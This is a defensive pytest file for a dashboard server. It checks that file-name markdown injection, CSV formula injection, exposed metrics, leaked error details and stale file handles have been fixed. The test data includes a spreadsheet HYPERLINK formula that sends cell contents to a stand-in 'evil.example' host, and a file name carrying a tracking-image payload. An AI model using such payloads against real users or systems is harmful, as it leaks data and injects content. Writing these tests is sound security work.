"""Issue 16, part 3: the attacks on the dashboard's server, played as the attacker would
(docs/threat-model.md). Each test failed on the code before the fix.

- An uploaded file's name is shown as typed: it cannot render markdown or make the browser
  fetch an image.
- A file name starting with = reaches no downloadable table as a formula.
- The real server, over HTTP on loopback: /_stcore/metrics is closed to everyone, and an
  exception before sign-in shows no type, message or traceback in the browser.
- After a store is replaced (a purge, a load), the server does not keep the old file open until
  the next page view.
"""

from __future__ import annotations

import os
import shutil
import time
import urllib.error
import urllib.request
from pathlib import Path

import duckdb
import pytest
from playwright.sync_api import sync_playwright
from streamlit.testing.v1 import AppTest

from tests.test_browser import CHROMIUM, _streamlit
from tf_eval import config
from tf_eval.data import store
from tf_eval.governance import access

APP = str(config.PROJECT_ROOT / "app.py")
SAMPLES = config.PROJECT_ROOT / "data" / "samples"
PASSWORD = "a long enough password"
EVIL_NAME = "![x](http://127.0.0.1:9/track.png) :red[big] <img src=x> [link](http://e.x).csv"


@pytest.fixture
def copy_of_demo(demo_db: Path, tmp_path: Path) -> Path:
    path = tmp_path / "demo.duckdb"
    shutil.copyfile(demo_db, path)
    return path


def test_an_uploaded_file_name_shows_as_typed(
    real_store: Path, no_accounts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(config.PSEUDO_KEY_ENV_VAR, "tests-only-pseudonym-key-0123456789abcdef")
    monkeypatch.setenv(config.DB_ENV_VAR, str(real_store))
    access.add_account("loader", "steward", PASSWORD, no_accounts)
    at = AppTest.from_file(APP, default_timeout=300).run()
    at.text_input[0].set_value("loader")
    at.text_input[1].set_value(PASSWORD)
    at.button[0].click()
    at.run()
    at.switch_page("views/load.py").run()
    at.selectbox[0].set_value("families")
    at.file_uploader[0].upload(EVIL_NAME, (SAMPLES / "families.csv").read_bytes(), "text/csv")
    next(b for b in at.button if b.label == "Check and load").click()
    at.run()
    shown = at.success[0].value
    assert "Loaded **" in shown
    for markup in ("![", "](", ":red["):  # an image the browser would fetch, a link, colour
        assert markup not in shown, markup
    assert "\\!\\[x\\]\\(http\\://127.0.0.1\\:9/track.png\\)" in shown
    assert "\\:red\\[big\\]" in shown and "\\<img src=x\\>" in shown


def test_a_file_name_starting_with_equals_is_no_formula_in_a_downloadable_table(
    copy_of_demo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Data & linkage page's loads table can be downloaded as CSV from the browser."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    with duckdb.connect(str(copy_of_demo)) as con:
        con.execute(
            "UPDATE loads SET file_name = ?, loaded_by = '@cmd' WHERE load_id = 1", [formula]
        )
    monkeypatch.setenv(config.DB_ENV_VAR, str(copy_of_demo))
    at = AppTest.from_file(APP, default_timeout=300).run()
    at.switch_page("views/data.py").run()
    loads = at.dataframe[0].value
    assert loads["file_name"].iloc[0] == "'" + formula
    assert loads["loaded_by"].iloc[0] == "'@cmd"
    for column in loads.columns:
        for cell in loads[column]:
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "@"))), cell


# --- the real server ------------------------------------------------------------------------------


def test_metrics_are_closed_to_everyone(demo_db: Path, tmp_path: Path) -> None:
    env = {config.DB_ENV_VAR: str(demo_db), config.ACCOUNTS_FILE_ENV_VAR: str(tmp_path / "a.json")}
    with _streamlit(env) as url:
        for path in ("/_stcore/metrics", "/_stcore/metrics/", "//_stcore/metrics"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(url + path, timeout=10)
            assert refused.value.code in (400, 404), path
        assert urllib.request.urlopen(url + "/_stcore/health", timeout=10).status == 200


def test_an_error_before_sign_in_shows_no_details_in_the_browser(tmp_path: Path) -> None:
    """A store file that makes the first run fail before anyone signs in: a DuckDB file with a
    schema version but none of the store's description."""
    broken = tmp_path / "broken.duckdb"
    with duckdb.connect(str(broken)) as con:
        con.execute("CREATE TABLE schema_version (version INTEGER, applied_at TIMESTAMP)")
        con.execute("INSERT INTO schema_version VALUES (?, now())", [store.SCHEMA_VERSION])
    env = {config.DB_ENV_VAR: str(broken), config.ACCOUNTS_FILE_ENV_VAR: str(tmp_path / "a.json")}
    with _streamlit(env) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(url, wait_until="networkidle")
        page.wait_for_selector("[data-testid=stException]", timeout=120_000)
        shown = page.locator("[data-testid=stException]").inner_text()
        text = page.locator("body").inner_text()
        browser.close()
    for detail in ("CatalogException", "store_info", "Traceback", ".py", str(tmp_path)):
        assert detail not in text, f"the browser shows {detail!r}: {shown[:300]}"


# --- handles on replaced files -------------------------------------------------------------------


def _open_deleted(path: Path) -> list[str]:
    """This process's open file descriptors on a deleted file at `path`."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(str(path)) and target.endswith("(deleted)"):
            found.append(target)
    return found


def test_a_replaced_store_is_not_kept_open_until_the_next_page_view(
    copy_of_demo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(config.DB_ENV_VAR, str(copy_of_demo))
    at = AppTest.from_file(APP, default_timeout=300).run()
    assert at.title[0].value.startswith("Overview") and not at.exception
    with store.replacing(copy_of_demo):  # what a purge or a load in another process does
        pass
    deadline = time.monotonic() + 10  # a few of the server's looks (every 2 s)
    while _open_deleted(copy_of_demo) and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not _open_deleted(copy_of_demo), "the replaced file is still open"
    at.run()  # the next page view opens the new file
    assert at.title[0].value.startswith("Overview") and not at.exception
